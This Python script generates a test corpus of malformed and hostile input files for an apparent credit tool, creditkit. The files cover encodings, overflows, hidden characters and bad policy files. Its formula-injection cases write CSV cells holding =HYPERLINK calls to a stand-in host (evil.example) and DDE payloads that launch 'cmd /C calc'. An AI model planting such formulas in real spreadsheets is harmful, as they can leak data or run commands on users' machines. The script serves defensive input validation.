"""Write the bad-input corpus (tests/data/bad): broken, odd and hostile files a user sends.

Run ``python tests/data/bad/make_bad.py`` to rewrite every file; the output is
byte-for-byte the same on every run (no clocks, no random state: the
workbook's zip dates and document properties are fixed, gzip's mtime is 0),
and ``tests/test_bad_inputs.py`` checks that the committed files are what this
script writes. What each file is for, and what creditkit must answer, is in
``cases.csv`` next to it.
"""

from __future__ import annotations

import gzip
import io
import re
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path

HERE = Path(__file__).resolve().parent

BILLS = "bill_id,customer_id,issue_date,due_date,amount,currency"
PAYMENTS = "payment_id,customer_id,paid_date,amount,channel"
CUSTOMERS = "customer_id,name,kind,id_number,phone,credit_limit"
POLICY = ("kind,grade,min_score,limit_basis,multiple,credit_period_days,cap_minor,"
          "term_months,term_days,prepayment,restricted")
POLICY_ROWS = ["consumer,A,640,income,3,,5000000,24,,false,false",
               "consumer,B,600,income,2,,3000000,12,,false,false",
               "business,A,620,sales,0.8,60,90000000,,60,false,false",
               "business,B,560,sales,0.5,30,30000000,,30,false,false"]
#: A valid resident ID number (check digit X) and mobile.
ID_OK, PHONE_OK = "11010519491231002X", "13800138000"


def text(header: str, rows: list[str], *, encoding: str = "utf-8", bom: bool = False,
         newline: str = "\n", final_newline: bool = True) -> bytes:
    body = newline.join([header, *rows]) + (newline if final_newline else "")
    data = body.encode(encoding)
    return (b"\xef\xbb\xbf" if bom else b"") + data


def bill(i: int, amount: str, *, cur: str = "CNY", issue: str = "2025-01-05",
         due: str = "2025-02-05", cust: str = "C1") -> str:
    return f"B{i},{cust},{issue},{due},{amount},{cur}"


def _xlsx(rows: list[list[object]]) -> bytes:
    """A one-sheet workbook with fixed document dates and zip entry times."""
    import datetime as dt

    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    for row in rows:
        ws.append(row)
    when = dt.datetime(2025, 1, 1)
    wb.properties.created = wb.properties.modified = when
    buf = io.BytesIO()
    wb.save(buf)
    out = io.BytesIO()
    with zipfile.ZipFile(buf) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in sorted(src.infolist(), key=lambda i: i.filename):
            data = src.read(info.filename)
            if info.filename == "docProps/core.xml":  # openpyxl stamps the save time
                data = re.sub(rb"(<dcterms:(created|modified)[^>]*>)[^<]*",
                              rb"\g<1>2025-01-01T00:00:00Z", data)
            dst.writestr(zipfile.ZipInfo(info.filename, date_time=(2025, 1, 1, 0, 0, 0)), data)
    return out.getvalue()


def _parquet(columns: dict[str, object]) -> bytes:
    import pyarrow as pa
    import pyarrow.parquet as pq

    buf = io.BytesIO()
    pq.write_table(pa.table(columns), buf, compression="none")
    return buf.getvalue()


def _garbage(n: int, seed: int) -> bytes:
    """``n`` reproducible pseudo-random bytes (a linear congruential generator, no RNG state)."""
    out, x = bytearray(), seed
    for _ in range(n):
        x = (1103515245 * x + 12345) % 2**31
        out.append(x >> 16 & 0xFF)
    return bytes(out)


def files() -> dict[str, Callable[[], bytes]]:
    """File name -> the bytes it holds."""
    import pyarrow as pa

    big_rows = [bill(i, "100.00") for i in range(1, 1600)]  # > 64 KB of text
    trad = "賬單號,客戶編號,出賬日期,到期日,金額,幣種"
    gb = "账单号,客户编号,出账日期,到期日,金额,币种"
    f: dict[str, Callable[[], bytes]] = {
        # --- bills: encodings and file shape ---------------------------------------
        "bills_ok.csv": lambda: text(BILLS, [bill(1, "1200.00"), bill(2, '"¥1,234.56"'),
                                             bill(3, "0.01")]),
        "bills_utf8_bom.csv": lambda: text(gb, [bill(1, "100.00"), bill(2, "200.50")], bom=True),
        "bills_gbk.csv": lambda: text(gb, [bill(1, "100.00"), "B2,客户甲,2025-01-05,"
                                           "2025-02-05,88.80,CNY"], encoding="gbk"),
        "bills_crlf_gb18030.csv": lambda: text(gb, [bill(1, "5.00"), bill(2, "6.00")],
                                               encoding="gb18030", newline="\r\n"),
        "bills_traditional.csv": lambda: text(trad, [bill(1, "100.00"), bill(2, "250.00")],
                                            encoding="big5"),
        "bills_big5_unknown_headers.csv": lambda: text("單據,往來戶,備註,業務員,聯絡電話", [
            "B1,C1,2025-01-05,2025-02-05,100.00"], encoding="big5"),
        "bills_big5_few_chars.csv": lambda: text("序,戶,額", ["B1,C1,100.00"], encoding="big5"),
        "bills_trad_headers_utf8.csv": lambda: text(trad, [bill(1, "100.00"), bill(2, "9.99")]),
        "bills_utf16.csv": lambda: text(BILLS, [bill(1, "100.00"), bill(2, "7.00")],
                                        encoding="utf-16"),
        "bills_utf16_excel_unicode.txt": lambda: text(BILLS.replace(",", "\t"), [
            bill(1, "100.00").replace(",", "\t")], encoding="utf-16", newline="\r\n"),
        "bills_latin1.csv": lambda: text(BILLS, [bill(1, "100.00"), "B2,Café Müller,2025-01-05,"
                                                 "2025-02-05,3.00,EUR"], encoding="latin-1"),
        "bills_empty.csv": lambda: b"",
        "bills_only_bom.csv": lambda: b"\xef\xbb\xbf",
        "bills_whitespace_only.csv": lambda: b"  \n\n \t\n",
        "bills_header_only.csv": lambda: text(BILLS, []),
        "bills_truncated.csv": lambda: text(BILLS, [bill(1, "100.00"), bill(2, "200.00"),
                                                    'B3,C1,2025-01-05,"2025-0'],
                                            final_newline=False),
        "bills_nul_early.csv": lambda: text(BILLS, [bill(1, "100.00"), "B\x002,C1,2025-01-05,"
                                                    "2025-02-05,5.00,CNY"]),
        "bills_nul_late.csv": lambda: text(BILLS, [*big_rows, "B9\x00999,C1,2025-01-05,"
                                                   "2025-02-05,5.00,CNY"]),
        "bills_xlsx_renamed.csv": lambda: _xlsx([BILLS.split(","),
                                                 ["B1", "C1", "2025-01-05", "2025-02-05",
                                                  "100.00", "CNY"]]),
        "bills_parquet_renamed.csv": lambda: _parquet({
            "bill_id": ["B1"], "customer_id": ["C1"], "issue_date": ["2025-01-05"],
            "due_date": ["2025-02-05"], "amount": ["1.00"]}),
        "bills_garbage.csv": lambda: _garbage(4096, 7),
        "bills_damaged.csv.gz": lambda: gzip.compress(
            text(BILLS, big_rows), mtime=0)[:3000],
        "bills_old_xls.xls": lambda: bytes.fromhex("d0cf11e0a1b11ae1") + _garbage(504, 3),
        "bills_dup_headers.csv": lambda: text(BILLS + ",amount", [
            bill(1, "100.00") + ",999.00", bill(2, "200.00") + ",0.00"]),
        "bills_two_amount_synonyms.csv": lambda: text(BILLS + ",金额", [
            bill(1, "100.00") + ",100.00", bill(2, "200.00") + ",250.00"]),
        "bills_missing_amount_col.csv": lambda: text(
            "bill_id,customer_id,issue_date,due_date,currency",
            ["B1,C1,2025-01-05,2025-02-05,CNY", "B2,C1,2025-01-05,2025-02-05,CNY"]),
        "bills_no_known_columns.csv": lambda: text("foo,bar,baz", ["1,2,3", "4,5,6"]),
        "bills_ragged.csv": lambda: text(BILLS, [bill(1, "100.00"),
                                                 bill(2, "200.00") + ",extra,fields",
                                                 "B3,C1", bill(4, "4.00")]),
        "bills_blank_records.csv": lambda: text(BILLS, [bill(1, "1.00"), ",,,,,", "",
                                                        bill(2, "2.00")]),
        "bills_tab_in_csv.tsv": lambda: text(BILLS.replace(",", "\t"), [
            bill(1, "1,000.00").replace(",", "\t").replace("1\t000", "1,000")]),
        # --- bills: amounts -------------------------------------------------------
        "bills_2p53_mixed.csv": lambda: text(BILLS, [bill(1, "90071992547409.93"),
                                                     bill(2, "not a number"),
                                                     bill(3, "90071992547409.91")]),
        "bills_2p53_alone.csv": lambda: text(BILLS, [bill(1, "90071992547409.93"),
                                                     bill(2, "90071992547409.91")]),
        "bills_sum_wraps_int64.csv": lambda: text(BILLS, [bill(1, "50000000000000000.00"),
                                                          bill(2, "50000000000000000.00")]),
        "bills_near_int64_max_plus_bad.csv": lambda: text(BILLS, [
            bill(1, "92233720368547758.07"), bill(2, "#VALUE!")]),
        "bills_past_int64_max.csv": lambda: text(BILLS, [bill(1, "92233720368547758.08"),
                                                         bill(2, "1.00")]),
        "bills_excel_errors.csv": lambda: text(BILLS, [bill(1, "#N/A"), bill(2, "#DIV/0!"),
                                                       bill(3, "#REF!"), bill(4, "10.00")]),
        "bills_arabic_indic_digits.csv": lambda: text(BILLS, [bill(1, "٣٠٠"), bill(2, "۱۲.۵۰"),
                                                              bill(3, "1.00")]),
        "bills_fullwidth_digits.csv": lambda: text(BILLS, [bill(1, "１２３.４５"),
                                                           bill(2, "￥６.００")]),
        "bills_sub_fen.csv": lambda: text(BILLS, [bill(1, "10.005"), bill(2, "10.50")]),
        "bills_excel_scientific.csv": lambda: text(BILLS, [bill(1, "1.23457E+11"),
                                                           bill(2, "5.00")]),
        "bills_nan_inf_text.csv": lambda: text(BILLS, [bill(1, "inf"), bill(2, "-Infinity"),
                                                       bill(3, "NaN"), bill(4, "1.00")]),
        "bills_negative_and_parens.csv": lambda: text(BILLS, [bill(1, "-5.00"),
                                                              bill(2, "(12.00)"),
                                                              bill(3, "12.00")]),
        "bills_currency_mess.csv": lambda: text(BILLS, [bill(1, "$100.00", cur="CNY"),
                                                        bill(2, "100.00", cur="XYZ"),
                                                        bill(3, "100.00", cur="usd")]),
        # --- bills: dates and keys -------------------------------------------------
        "bills_bad_dates.csv": lambda: text(BILLS, [
            bill(1, "1.00", due="2024-02-30"), bill(2, "1.00", due="yesterday"),
            bill(3, "1.00", issue="05/01/2024", due="2025-02-05"),
            bill(4, "1.00", issue="1900-01-01"), bill(5, "1.00", due="2024-12-01")]),
        "bills_duplicate_keys.csv": lambda: text(BILLS, [bill(1, "100.00"), bill(1, "100.00"),
                                                         bill(2, "5.00"), bill(2, "6.00")]),
        "bills_control_chars.csv": lambda: text(BILLS, [
            "B1\x07,C1,2025-01-05,2025-02-05,1.00,CNY",
            "B2,C\x1b[31m1,2025-01-05,2025-02-05,2.00,CNY", bill(3, "3.00")]),
        # --- formula injection, each payload lands in quarantine.csv --------------------
        "bills_inject_hyperlink.csv": lambda: text(BILLS, [
            '"=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")",C1,2025-01-05,'
            "2025-02-05,oops,CNY", bill(2, "1.00")]),
        "bills_inject_plus.csv": lambda: text(BILLS, [bill(1, "+1+cmd|' /C calc'!A0"),
                                                      bill(2, "1.00")]),
        "bills_inject_minus.csv": lambda: text(BILLS, [bill(1, "-2+3+cmd|' /C calc'!A0"),
                                                       bill(2, "1.00")]),
        "bills_inject_at.csv": lambda: text(BILLS, [bill(1, "@SUM(1+9)*cmd|' /C calc'!A0"),
                                                    bill(2, "1.00")]),
        "bills_inject_tab.csv": lambda: text(BILLS, [bill(1, "\t=1+1"), bill(2, "1.00")]),
        "bills_inject_cr.csv": lambda: text(BILLS, [bill(1, '"\r=1+1"'), bill(2, "1.00")]),
        "bills_inject_amount_eq.csv": lambda: text(BILLS, [bill(1, "=1+1"), bill(2, "1.00")]),
        # --- bills: Parquet -----------------------------------------------------------
        "bills_bytes_col.parquet": lambda: _parquet({
            "bill_id": pa.array([b"B1", b"\xff\xfeB2"], pa.binary()),
            "customer_id": ["C1", "C1"], "issue_date": ["2025-01-05"] * 2,
            "due_date": ["2025-02-05"] * 2, "amount": ["1.00", "2.00"]}),
        "bills_inf.parquet": lambda: _parquet({
            "bill_id": ["B1", "B2", "B3"], "customer_id": ["C1"] * 3,
            "issue_date": ["2025-01-05"] * 3, "due_date": ["2025-02-05"] * 3,
            "amount": pa.array([float("inf"), float("-inf"), 12.5], pa.float64())}),
        "bills_float_nan.parquet": lambda: _parquet({
            "bill_id": ["B1", "B2"], "customer_id": ["C1"] * 2,
            "issue_date": ["2025-01-05"] * 2, "due_date": ["2025-02-05"] * 2,
            "amount": pa.array([None, 12.25], pa.float64())}),
        "bills_int64_max_minor.parquet": lambda: _parquet({
            "bill_id": ["B1"], "customer_id": ["C1"], "issue_date": ["2025-01-05"],
            "due_date": ["2025-02-05"], "currency": ["CNY"],
            "amount_minor": pa.array([2**63 - 1], pa.int64())}),
        "bills_int64_sum_wraps.parquet": lambda: _parquet({
            "bill_id": ["B1", "B2"], "customer_id": ["C1"] * 2,
            "issue_date": ["2025-01-05"] * 2, "due_date": ["2025-02-05"] * 2,
            "currency": ["CNY"] * 2,
            "amount_minor": pa.array([2**63 - 1000, 2000], pa.int64())}),
        "bills_not_parquet.parquet": lambda: b"PAR1" + _garbage(300, 11),
        # --- payments -------------------------------------------------------------------
        "payments_ok.csv": lambda: text("流水号,客户编号,回款日期,回款金额,支付方式", [
            "P1,C1,2025-02-01,100.00,支付宝", "P2,C1,2025/2/2,￥88.00,微信"]),
        "payments_dup_id_conflict.csv": lambda: text(PAYMENTS, [
            "P1,C1,2025-02-01,100.00,alipay", "P1,C1,2025-02-01,150.00,alipay",
            "P2,C1,2025-02-01,5.00,alipay"]),
        "payments_unknown_channel.csv": lambda: text(PAYMENTS, [
            "P1,C1,2025-02-01,100.00,比特币", "P2,C1,2025-02-01,5.00,wechat"]),
        "payments_missing_date_col.csv": lambda: text("payment_id,customer_id,amount,channel", [
            "P1,C1,100.00,alipay", "P2,C1,5.00,wechat"]),
        "payments_inject_reference.csv": lambda: text(PAYMENTS + ",reference", [
            'P1,C1,2025-02-01,x,alipay,"=HYPERLINK(""http://evil.example"",""ok"")"',
            "P2,C1,2025-02-01,1.00,alipay,note"]),
        "payments_2p53_mixed.csv": lambda: text(PAYMENTS, [
            "P1,C1,2025-02-01,90071992547409.93,alipay", "P2,C1,2025-02-01,abc,alipay"]),
        # --- customers ------------------------------------------------------------------
        "customers_ok.csv": lambda: text(CUSTOMERS, [f"C1,张三,个人,{ID_OK},{PHONE_OK},5000.00",
                                                     "C2,李四,consumer,,13900139000,"]),
        "customers_bidi_override.csv": lambda: text(CUSTOMERS, [
            f"C1,\u202egnaZ nahZ,consumer,{ID_OK},{PHONE_OK},1.00", "C2,李四,consumer,,,"]),
        "customers_zero_width_name.csv": lambda: text(CUSTOMERS, [
            f"C1,\u200b\u200c\u200d\ufeff,consumer,{ID_OK},{PHONE_OK},1.00",
            "C2,李四,consumer,,,"]),
        "customers_control_chars.csv": lambda: text(CUSTOMERS, [
            f"C1,张\x08三\x1b[2J,consumer,{ID_OK},{PHONE_OK},1.00", "C2,李四,consumer,,,"]),
        "customers_bad_identifiers.csv": lambda: text(CUSTOMERS, [
            f"C1,张三,consumer,110105194912310021,{PHONE_OK},",
            "C2,李四,consumer,1.10105E+17,,", "C3,王五,consumer,,12345,",
            "C4,赵六,外星人,,,", "C5,钱七,consumer,,,-100.00"]),
        "customers_trad_headers.csv": lambda: text(
            "客戶編號,姓名,客戶類型,身份證號,手機,授信額度", [
            f"C1,張三,個人,{ID_OK},{PHONE_OK},5000.00"]),
        "customers_inject_name.csv": lambda: text(CUSTOMERS, [
            f'C1,"=cmd|\' /C calc\'!A0",consumer,{ID_OK},{PHONE_OK},x']),
        "customers_pii_headers.xlsx": lambda: _xlsx([
            ["客户编号", "客户名称", "身份证号", "手机号", "授信额度"],
            ["C1", "张三", ID_OK, PHONE_OK, "5000.00"],
            ["C2", "李四", "", "", "=1/0"]]),
        "customers_empty_sheet.xlsx": lambda: _xlsx([]),
        # --- applications ---------------------------------------------------------------
        "applications_dup_headers.csv": lambda: text(
            "application_id,customer_id,apply_date,apply_date", ["A1,C1,2025-01-01,2025-02-01"]),
        "applications_garbage.csv": lambda: _garbage(2048, 5),
        # --- DuckDB -----------------------------------------------------------------------
        "store_garbage.duckdb": lambda: _garbage(8192, 13),
        "store_empty.duckdb": lambda: b"",
        "store_text.duckdb": lambda: text(BILLS, [bill(1, "1.00")]),
        # --- scoring policy files -----------------------------------------------------------
        "policy_missing_column.csv": lambda: text(POLICY.replace(",restricted", ""), [
            r.rsplit(",", 1)[0] for r in POLICY_ROWS]),
        "policy_bad_kind.csv": lambda: text(POLICY, [*POLICY_ROWS,
                                                     "retail,A,600,income,1,,1,1,,false,false"]),
        "policy_multiple_not_decimal.csv": lambda: text(POLICY, [
            POLICY_ROWS[0].replace(",3,", ",3x,"), *POLICY_ROWS[1:]]),
        "policy_multiple_negative.csv": lambda: text(POLICY, [
            POLICY_ROWS[0].replace(",3,", ",-1,"), *POLICY_ROWS[1:]]),
        "policy_min_score_not_decreasing.csv": lambda: text(POLICY, [
            POLICY_ROWS[1], POLICY_ROWS[0], *POLICY_ROWS[2:]]),
        "policy_bool_yes.csv": lambda: text(POLICY, [
            POLICY_ROWS[0].replace("false,false", "yes,no"), *POLICY_ROWS[1:]]),
        "policy_cap_decimal.csv": lambda: text(POLICY, [
            POLICY_ROWS[0].replace("5000000", "5000000.5"), *POLICY_ROWS[1:]]),
        "policy_cap_huge.csv": lambda: text(POLICY, [
            POLICY_ROWS[0].replace("5000000", "99999999999999999999"), *POLICY_ROWS[1:]]),
        "policy_min_score_blank.csv": lambda: text(POLICY, [
            POLICY_ROWS[0].replace(",640,", ",,"), *POLICY_ROWS[1:]]),
        "policy_empty.csv": lambda: b"",
        "policy_gbk_notes.csv": lambda: text(POLICY + ",备注", [
            r + ",优质客户" for r in POLICY_ROWS], encoding="gbk"),
        "policy_bom.csv": lambda: text(POLICY, POLICY_ROWS, bom=True),
        "policy_formula.csv": lambda: text(POLICY, [
            POLICY_ROWS[0].replace(",3,", ",=1+2,"), *POLICY_ROWS[1:]]),
        "policy_xlsx_renamed.csv": lambda: _xlsx([POLICY.split(","),
                                                  POLICY_ROWS[0].split(",")]),
        # --- rule files: column maps for `creditkit clean --column-map` ------------------------
        "colmap_not_json.json": lambda: b"{'bill no': 'bill_id',}",
        "colmap_list.json": lambda: b'[["bill no", "bill_id"]]',
        "colmap_gbk.json": lambda: '{"单号": "bill_id"}'.encode("gbk"),
        "colmap_unknown_field.json": lambda: b'{"bill no": "bill_identifier"}',
        "bills_custom_headers.csv": lambda: text("bill no,cust,issued,due,amt", [
            "B1,C1,2025-01-05,2025-02-05,1.00"]),
        # --- hidden characters and broken cells (helper "text") ------------------------------
        "bills_zero_width_key.csv": lambda: text(BILLS, [bill(1, "1.00"), bill(2, "2.00").replace(
            "B2", "B1\u200b"), bill(3, "3.00")]),
        "payments_lookalike_ids.csv": lambda: text(PAYMENTS, [
            "P1,C1,2025-02-01,100.00,alipay", "P1\u2060,C1,2025-02-01,100.00,alipay",
            "P\u202e2,C1,2025-02-01,5.00,alipay"]),
        "payments_excel_error_optional.csv": lambda: text(PAYMENTS + ",bill_id,reference", [
            "P1,C1,2025-02-01,100.00,alipay,#N/A,#REF!", "P2,C1,2025-02-01,5.00,alipay,,x"]),
        "customers_tag_chars_name.csv": lambda: text(CUSTOMERS, [
            "C1,张三\U000e0049\U000e0047\U000e004e,consumer,,,", "C2,李四\u00ad,consumer,,,"]),
        "bills_unsaved_formulas.xlsx": lambda: _xlsx([BILLS.split(","),
                                                      ["B1", "C1", "2025-01-05", "2025-02-05",
                                                       "100.00", "CNY"],
                                                      ["B2", "C1", "2025-01-05", "2025-02-05",
                                                       "=E2*2", "CNY"],
                                                      ["B3", "=VLOOKUP(A4,Sheet2!A:B,2,0)",
                                                       "2025-01-05", "2025-02-05", "1.00",
                                                       "CNY"]]),
    }
    return f


def build(out: Path) -> list[str]:
    """Write every corpus file into ``out``; return their names."""
    out.mkdir(parents=True, exist_ok=True)
    names = []
    for name, make in files().items():
        (out / name).write_bytes(make())
        names.append(name)
    return names


if __name__ == "__main__":
    target = Path(sys.argv[1]) if len(sys.argv) > 1 else HERE
    print(f"wrote {len(build(target))} files to {target}")
